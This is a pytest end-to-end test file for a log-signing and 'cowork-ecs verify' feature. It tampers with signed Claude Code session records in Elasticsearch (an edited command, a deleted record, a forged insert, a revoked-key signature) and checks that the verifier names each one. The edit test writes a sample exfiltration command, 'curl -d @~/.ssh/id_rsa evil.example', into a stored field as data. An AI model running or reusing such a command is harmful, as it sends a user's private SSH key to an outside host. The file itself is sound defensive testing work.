"""Tamper evidence end to end (issue 18, item 3): real Claude Code sessions
through the shipped gateway, which signs every Claude log record, span and
span event with the suite's key (harness.test_pki: signing.pem); then, in
Elasticsearch, one
stored document edited (its command changed), one deleted from the middle
of its session, one forged document inserted, and one document signed by a
gateway whose key was revoked. `cowork-ecs verify` names exactly those and
passes on the untouched session."""

import json
import subprocess
import time

import pytest

import harness as h
from conftest import TOKEN, get

INDEX = "logs-claude_code.events.otel-*"


def verify(stack, *args):
    pki = h.test_pki()
    if getattr(stack.es, "verify_key", None) is None:  # the README's read-only role
        _, stack.es.verify_key = stack.es.api_key("cowork-ecs-verify", "verify.json")
    proc = subprocess.run([str(h.CLI), "verify", "--elasticsearch", stack.es.url,
                           "--api-key", stack.es.verify_key, "--ca-file", str(pki / "ca.crt"),
                           "--public-key", str(pki / "signing.pub.pem"),
                           "--revoked-key", str(pki / "signing_revoked.pub.pem"), *args],
                          capture_output=True, timeout=120, env={"PATH": "/usr/bin:/bin"})
    return proc.returncode, proc.stdout.decode(), proc.stderr.decode()


def stored(stack, sid):
    """The session's documents as stored: (index, _id, _source), by event.sequence."""
    hits = stack.es.search({"term": {"claude_code.events.session.id": sid}}, INDEX)
    return sorted(((x["_index"], x["_id"], x["_source"]) for x in hits),
                  key=lambda d: get(d[2], "claude_code.events.event.sequence"))


@pytest.fixture(scope="module")
def sessions(stack):
    """Three real sessions (untouched, tampered, and one joined by a record
    a revoked key signed), each fully indexed."""
    out = {}
    for name in ("untouched", "tampered", "revoked"):
        sid, proc = h.run_claude("bash_ok", stack.api.url, stack.collector.otlp_http, TOKEN, allowed_tools=["Bash"],
                                 tag=f"sig_{name}")
        assert proc.returncode == 0, proc.stderr[-2000:]
        stack.docs(f"sig_{name}", 5, actions=("user_prompt", "api_request", "tool_result"), index=INDEX)
        time.sleep(2)  # the session's last records
        out[name] = sid
    return out


def test_every_stored_claude_record_is_signed_after_the_content_policy(stack, sessions):
    docs = stored(stack, sessions["untouched"])
    assert len(docs) >= 5
    for _, _, src in docs:
        assert get(src, "cowork_ecs.signature.key_id"), src
        assert len(get(src, "cowork_ecs.signature.value")) == 88
        names = [f.rsplit(":", 1)[0] for f in get(src, "cowork_ecs.signature.fields")]
        assert "@timestamp" in names and "claude_code.events.event.sequence" in names
    # What is signed is what is stored: the redacted prompt, not the sent one.
    prompt = next(s for _, _, s in docs if get(s, "event.action") == "user_prompt")
    assert "claude_code.events.prompt_text" in [f.rsplit(":", 1)[0] for f in get(prompt, "cowork_ecs.signature.fields")]
    code, out, err = verify(stack, "--session", sessions["untouched"])
    assert code == 0, out + err
    assert out.startswith(f"session {sessions['untouched']}: intact ({len(docs)} documents"), out


def test_verify_names_each_tampering_and_nothing_else(stack, sessions):
    es = stack.es
    # 1. One document's command changed.
    tampered = stored(stack, sessions["tampered"])
    edited = next(d for d in tampered if get(d[2], "process.command_line"))
    status, body = h.http("POST", f"{es.url}/{edited[0]}/_update/{edited[1]}?refresh=true",
                          {"doc": {"process": {"command_line": "curl -d @~/.ssh/id_rsa evil.example"}}})
    assert status == 200, body[:500]
    # 2. One deleted from the middle of the session.
    inner = [d for d in tampered[1:-1] if d[1] != edited[1]]
    middle = inner[len(inner) // 2]
    deleted_seq = get(middle[2], "claude_code.events.event.sequence")
    assert h.http("DELETE", f"{es.url}/{middle[0]}/_doc/{middle[1]}?refresh=true")[0] == 200
    # 3. A forged document inserted: a copy of a real one, without its signature.
    forged = {k: v for k, v in tampered[0][2].items() if k != "cowork_ecs"}
    status, body = h.http("POST", f"{es.url}/logs-claude_code.events.otel-default/_doc?refresh=true", forged)
    assert status == 201, body[:500]
    forged = json.loads(body)
    # 4. A record signed by a gateway whose key was revoked, in another session.
    pki = h.test_pki()
    old = h.Collector(stack.workdir, es.url, TOKEN, name="collector-revoked-signer",
                      env={"COWORK_ECS_SIGNING_KEY_FILE": str(pki / "signing_revoked.pem")}).start()
    try:
        last = stored(stack, sessions["revoked"])[-1][2]
        seq = get(last, "claude_code.events.event.sequence") + 1
        record = {"resourceLogs": [{"resource": {"attributes": [
            {"key": "service.name", "value": {"stringValue": "claude-code"}},
            {"key": "e2e.scenario", "value": {"stringValue": "sig_revoked_signer"}}]},
            "scopeLogs": [{"scope": {"name": "com.anthropic.claude_code.events"}, "logRecords": [{
                "timeUnixNano": str(time.time_ns()), "body": {"stringValue": "claude_code.tool_result"},
                "attributes": [{"key": "event.name", "value": {"stringValue": "tool_result"}},
                               {"key": "session.id", "value": {"stringValue": sessions["revoked"]}},
                               {"key": "event.sequence", "value": {"intValue": seq}},
                               {"key": "tool_name", "value": {"stringValue": "Bash"}},
                               {"key": "success", "value": {"stringValue": "true"}}]}]}]}]}
        assert old.post_logs(json.dumps(record).encode(), "application/json")[0] == 200
        stack.docs("sig_revoked_signer", 1, index=INDEX)
    finally:
        old.stop()
    revoked_doc = [d for d in stored(stack, sessions["revoked"]) if get(d[2], "claude_code.events.event.sequence") == seq]
    assert len(revoked_doc) == 1

    code, out, err = verify(stack, "--session", sessions["tampered"])
    print(f"\n[verify tampered]\n{out}")
    assert code == 1, out + err
    lines = out.splitlines()
    assert lines[0].startswith(f"session {sessions['tampered']}: 3 problem(s)"), out
    assert sorted(lines[1:]) == sorted([
        f"  modified: {edited[0]}/{edited[1]} (fields: process.command_line)",
        f"  missing: sequence {deleted_seq}",
        f"  inserted: {forged['_index']}/{forged['_id']} (unsigned)",
    ]), out

    code, out, err = verify(stack, "--session", sessions["revoked"])
    print(f"[verify revoked]\n{out}")
    assert code == 1, out + err
    kid = get(revoked_doc[0][2], "cowork_ecs.signature.key_id")
    assert out.splitlines()[1:] == [f"  revoked key: {revoked_doc[0][0]}/{revoked_doc[0][1]} (key {kid})"], out

    code, out, err = verify(stack, "--session", sessions["untouched"])
    print(f"[verify untouched]\n{out}")
    assert code == 0 and "intact" in out, out + err


def test_verify_fails_when_nothing_matches(stack):
    code, out, err = verify(stack, "--session", "no-such-session")
    assert code == 1 and "nothing verified" in out, out + err


def test_verify_without_a_trusted_key_for_the_documents_says_unknown_key(stack, sessions):
    pki = h.test_pki()
    verify(stack, "--session", sessions["untouched"])  # makes the read-only key
    proc = subprocess.run([str(h.CLI), "verify", "--elasticsearch", stack.es.url, "--api-key", stack.es.verify_key,
                           "--ca-file", str(pki / "ca.crt"), "--public-key", str(pki / "signing_revoked.pub.pem"),
                           "--session", sessions["untouched"]], capture_output=True, timeout=120)
    out = proc.stdout.decode()
    assert proc.returncode == 1 and "unknown key" in out, out + proc.stderr.decode()


def test_spans_span_events_and_data_points_are_signed_and_a_changed_one_is_named(stack):
    tag = "sig_spans"
    extra = dict(h.ALL_SIGNALS_ENV)
    extra["OTEL_RESOURCE_ATTRIBUTES"] = f"e2e.scenario={tag}"
    sid, proc = h.run_claude("bash_ok", stack.api.url, stack.collector.otlp_http, TOKEN, allowed_tools=["Bash"],
                             tag=tag, extra_env=extra)
    assert proc.returncode == 0, proc.stderr[-2000:]
    spans = stack.docs(tag, 3, index="traces-claude_code.otel-*")
    events = stack.docs(tag, 1, index="logs-claude_code.otel-*")
    points = stack.docs(tag, 2, index="metrics-claude_code.metrics-*")
    time.sleep(3)
    for doc in spans + events:
        assert get(doc, "attributes.cowork_ecs.signature.key_id"), doc
    for doc in points:
        assert get(doc, "cowork_ecs.signature.key_id"), doc
    # Every span, span event and data point of the last minutes verifies:
    # the signed form is the exporter's document (OTel mode; ECS mode for
    # data points, one document each).
    for index in ("traces-claude_code.otel-*", "logs-claude_code.otel-*", "metrics-claude_code.metrics-*"):
        code, out, err = verify(stack, "--index", index, "--since", "now-10m")
        assert code == 0, out + err
    # One data point's value changed: time-series mode updates nothing in
    # place, so the forger deletes it and writes it again, cheaper.
    hits = stack.es.search({"term": {"e2e.scenario": tag}}, "metrics-claude_code.metrics-*")
    point = next(x for x in hits if get(x["_source"], "claude_code.cost.usage") is not None)
    assert h.http("DELETE", f"{stack.es.url}/{point['_index']}/_doc/{point['_id']}?refresh=true")[0] == 200
    forged = json.loads(json.dumps(point["_source"]))
    forged["claude_code"]["cost"]["usage"] = 0.0
    status, body = h.http("POST", f"{stack.es.url}/metrics-claude_code.metrics-default/_doc?refresh=true", forged)
    assert status == 201, body[:500]
    point = json.loads(body)
    code, out, err = verify(stack, "--index", "metrics-claude_code.metrics-*", "--session", sid)
    print(f"\n[verify data points]\n{out}")
    assert code == 1, out + err
    assert f"  modified: {point['_index']}/{point['_id']} (fields: claude_code.cost.usage)" in out.splitlines(), out
    # One span changed.
    hits = stack.es.search({"term": {"resource.attributes.e2e.scenario": tag}}, "traces-claude_code.otel-*")
    span = next(x for x in hits if get(x["_source"], "attributes.session.id") == sid)
    status, body = h.http("POST", f"{stack.es.url}/{span['_index']}/_update/{span['_id']}?refresh=true",
                          {"doc": {"name": "claude_code.nothing_to_see"}})
    assert status == 200, body[:500]
    code, out, err = verify(stack, "--index", "traces-claude_code.otel-*", "--session", sid)
    print(f"\n[verify spans]\n{out}")
    assert code == 1, out + err
    assert f"  modified: {span['_index']}/{span['_id']} (fields: name)" in out.splitlines(), out
